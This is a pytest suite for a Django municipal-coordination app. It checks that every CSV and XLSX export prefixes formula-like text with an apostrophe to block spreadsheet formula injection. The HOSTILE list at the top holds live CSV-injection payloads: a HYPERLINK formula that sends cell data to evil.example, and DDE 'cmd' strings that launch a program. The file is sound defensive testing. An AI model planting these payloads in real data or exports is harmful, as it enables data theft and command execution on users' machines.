"""No export cell starts a formula: hostile text typed into any field reaches every CSV and XLSX
download as text with a leading apostrophe (OWASP, CSV injection), read back by openpyxl and csv."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook

from samverka.areas.models import Place, PlaceKind
from samverka.core.export import neutralise_formula, safe_cell, table_to_csv, table_to_xlsx
from samverka.core.testing import World, make_area
from samverka.incidents.tests.factories import make_incident, on_roster
from samverka.meetings import services as meetings
from samverka.organisation.models import GoverningDocument, Group, Organisation, Person
from samverka.process.models import Goal, Indicator, IndicatorSource, MeasureKind, MeasureTerm
from samverka.process.services import plans
from samverka.situation import services as situation
from samverka.situation.models import SituationReport
from samverka.situation.periods import parse_period
from samverka.stats.testing import make_value

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Klicka")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _assert_safe_xlsx(content: bytes) -> list[str]:
    """Every cell of every sheet: no formula, and no text that a spreadsheet would run."""
    workbook = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START), cell.value
                    texts.append(cell.value)
    return texts


def _is_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


def _assert_safe_csv(content: bytes) -> list[str]:
    """Every field: a number (a negative one is a number, not a formula) or safe text."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    texts = [value for row in rows for value in row]
    for value in texts:
        assert _is_number(value) or not value.startswith(FORMULA_START), value
    return texts


def test_the_helper_prefixes_every_formula_start_and_leaves_the_rest() -> None:
    for text in HOSTILE:
        assert neutralise_formula(text) == "'" + text
    assert neutralise_formula("Torget") == "Torget"
    assert neutralise_formula("") == ""
    # Numbers stay numbers: a negative number is a number cell, not text.
    assert safe_cell(-3) == -3
    assert safe_cell(-2.5) == -2.5
    assert safe_cell(Decimal("-1.5")) == Decimal("-1.5")
    assert safe_cell(None) is None


def test_table_writers_neutralise_headers_and_cells_and_keep_negative_numbers() -> None:
    headers = ["Plats", "=Rubrik", "Antal"]
    rows = [[text, text, -4] for text in HOSTILE]

    texts = _assert_safe_xlsx(table_to_xlsx(headers, rows, title="Test"))
    assert "'" + HOSTILE[0] in texts and "'=Rubrik" in texts
    workbook = load_workbook(io.BytesIO(table_to_xlsx(headers, rows, title="Test")))
    sheet = workbook.active
    assert sheet is not None
    assert sheet["C2"].value == -4 and sheet["C2"].data_type == "n"

    texts = _assert_safe_csv(table_to_csv(headers, rows))
    assert "'" + HOSTILE[0] in texts and "-4" in texts
    for text in HOSTILE:
        assert "'" + text in texts


def _walk(patterns: list[URLPattern | URLResolver], prefix: str = "") -> list[str]:
    found = []
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            found += _walk(pattern.url_patterns, prefix + str(pattern.pattern))
        else:
            found.append(prefix + str(pattern.pattern))
    return found


EXPORTS: dict[str, dict[str, object]] = {
    "areas:export": {},
    "areas:place_export": {},
    "incidents:export": {},
    "incidents:round_export": {},
    "organisation:group_export": {},
    "organisation:membership_export": {"pk": "steering"},
    "organisation:organisation_export": {},
    "organisation:person_export": {},
    "organisation:document_export": {},
    "organisation:checklist_export": {},
    "organisation:health_export": {},
    "situation:export": {},
    "stats:value_export": {},
    "stats:compare_export": {},
    "stats:series_export": {"pk": "series"},
    "meetings:index_export": {},
    "meetings:group_export": {"group_pk": "steering"},
    "meetings:commitments_export": {},
    "process:indicator_export": {},
    "process:plan_export": {"pk": "plan"},
}
# Tried for safety, without hostile text of their own to find: the checklist holds Brå's
# questions, the users and access log exports hold no text this test's world types, and the
# comparison needs Brå's figures for the area (its text cells go through the same helper).
NO_USER_TEXT = {
    "organisation:checklist_export",
    "users:export",
    "users:access_log_export",
    "stats:compare_export",
}
EXPORTS.update({name: {} for name in NO_USER_TEXT})
# The platform's own exports: no municipality in their address (tried on their own below).
PLATFORM_EXPORTS = {"background:failures_export"}
# Downloads ending in .<fmt> that are no spreadsheet of user text: a fixed template row, and the
# organisation file (YAML/JSON).
NOT_TABLES = {"incidents:import_template", "organisation:orgfile_download"}


def test_every_export_url_is_in_this_test() -> None:
    """A new export must be added here, so that it is tried with hostile text too."""
    exports = [p for p in _walk(get_resolver().url_patterns) if re.search(r"\.<str:fmt>", p)]
    assert len(exports) == len(EXPORTS) + len(NOT_TABLES) + len(PLATFORM_EXPORTS), exports


@pytest.fixture
def hostile(world: World) -> dict[str, object]:
    """Every text a coordinator or member can type that lands in an export, set to a formula."""
    evil = HOSTILE[0]
    m = world.testby
    world.area.name = evil
    world.area.save()
    # A second sub-area, so that the health check's per-sub-area findings name both.
    make_area(m, evil + " 2", parent=world.root_area)
    Organisation.objects.filter(pk=world.administration.pk).update(name=evil, short_name="@x")
    Group.objects.filter(pk=world.steering.pk).update(name=evil)
    Person.objects.filter(pk=world.bob_person.pk).update(name=evil, title="+titel")
    GoverningDocument.objects.filter(pk=world.document.pk).update(title=evil)
    world.steering.refresh_from_db()
    Place.objects.create(municipality=m, name=evil, kind=PlaceKind.SQUARE, description=evil)
    make_incident(m, world.area, place_name=evil, organisation=world.administration)
    on_roster(world.area, world.administration)  # the reporting rounds list the roster
    start = timezone.now() + timedelta(days=3)
    meeting = meetings.meeting_create(
        group=world.steering, starts_at=start, ends_at=start + timedelta(hours=1), user=None
    )
    meeting.title = evil
    meeting.save(update_fields=["title"])
    meetings.commitment_create(
        meeting=meeting,
        title=evil,
        owner_organisation=world.administration,
        due_date=timezone.localdate() + timedelta(days=7),
        user=None,
    )
    value = make_value(
        source="survey",
        category="otrygg",
        unit="percent",
        year=2024,
        value=-5,
        area=world.area,
        name=evil,
    )
    report = situation.report_create(
        municipality=m, area=world.area, period=parse_period("2026-W45/2026-W46"), user=world.alice
    )
    situation.report_update(report=report, user=world.alice, assessment=HOSTILE[3])
    goal = Goal.objects.create(municipality=m, title=evil)
    Indicator.objects.create(
        municipality=m, goal=goal, name=evil, unit="st", source=IndicatorSource.MANUAL
    )
    action_plan = plans.plan_create(
        municipality=m,
        user=world.alice,
        title=evil,
        period_start=date(2026, 1, 1),
        period_end=date(2026, 12, 31),
    )
    plans.measure_create(
        plan=action_plan,
        user=world.alice,
        data=plans.MeasureInput(title=evil, kind=MeasureKind.SOCIAL, term=MeasureTerm.SHORT),
    )
    return {"steering": world.steering.pk, "series": value.series.pk, "plan": action_plan.pk}


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_no_export_cell_starts_a_formula(
    world: World, client: Client, hostile: dict[str, object], name: str, fmt: str
) -> None:
    kwargs = {k: hostile[v] for k, v in EXPORTS[name].items()}  # type: ignore[index]
    client.force_login(world.alice)
    url = reverse(name, kwargs={"municipality": "testby", "fmt": fmt, **kwargs})
    params = {"area": world.area.pk} if name == "stats:compare_export" else {}
    response = client.get(url, params)
    assert response.status_code == 200, url
    texts = (_assert_safe_xlsx if fmt == "xlsx" else _assert_safe_csv)(response.content)
    if name not in NO_USER_TEXT:
        assert any(t.startswith("'" + HOSTILE[0]) for t in texts), (name, texts[:40])


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_failed_tasks_export_starts_no_formula(
    world: World, client: Client, tmp_path: Path, fmt: str
) -> None:
    from django_tasks.base import TaskResultStatus
    from django_tasks_db.models import DBTaskResult

    from samverka.background.tests.example_tasks import write_line

    result = write_line.enqueue(str(tmp_path / "x"))
    # What a task's failure records comes from code, but an exception's path is text all the
    # same: one that reads as a formula must not run in the administrator's spreadsheet.
    DBTaskResult.objects.filter(pk=result.id).update(
        status=TaskResultStatus.FAILED,
        finished_at=timezone.now(),
        exception_class_path="errors." + HOSTILE[3],
        worker_ids=["w-1"],
    )
    client.force_login(world.root)
    response = client.get(reverse("background:failures_export", kwargs={"fmt": fmt}))
    assert response.status_code == 200
    texts = (_assert_safe_xlsx if fmt == "xlsx" else _assert_safe_csv)(response.content)
    assert "'" + HOSTILE[3] in texts, texts  # the page shows the class's name


def test_the_lagesbild_xlsx_neutralises_place_names_and_assessment(
    world: World, client: Client, hostile: dict[str, object]
) -> None:
    report = SituationReport.objects.get(area=world.area)
    client.force_login(world.alice)
    response = client.get(
        reverse("situation:xlsx", kwargs={"municipality": "testby", "pk": report.pk})
    )
    assert response.status_code == 200
    texts = _assert_safe_xlsx(response.content)
    assert "'" + HOSTILE[3] in texts
    assert "'" + HOSTILE[0] in texts  # the area's name


def test_every_spreadsheet_writer_uses_the_one_helper() -> None:
    """csv.writer or an openpyxl Workbook outside core/export.py must call safe_cell."""
    root = Path(__file__).resolve().parent.parent / "samverka"
    for path in root.rglob("*.py"):
        if "tests" in path.parts or path.name == "export.py":
            continue
        source = path.read_text()
        if re.search(r"csv\.(writer|DictWriter)\(|Workbook\(\)", source):
            assert "safe_cell" in source, path
